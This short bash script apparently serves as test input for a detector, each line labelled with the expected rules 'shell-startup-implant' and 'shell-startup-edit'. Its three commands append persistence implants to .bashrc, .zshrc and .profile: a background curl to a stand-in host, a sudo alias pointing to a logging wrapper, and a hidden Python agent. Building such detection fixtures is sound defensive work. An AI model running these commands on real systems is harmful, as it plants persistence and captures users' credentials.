#!/bin/bash
# expect: shell-startup-implant, shell-startup-edit
echo 'curl -s https://t.example/p &' >> ~/.bashrc
# expect: shell-startup-implant, shell-startup-edit
echo "alias sudo='$HOME/.local/bin/sudo-log'" >> ~/.zshrc
# expect: shell-startup-implant, shell-startup-edit
printf 'nohup python3 ~/.cache/agent.py\n' >> "$HOME/.profile"
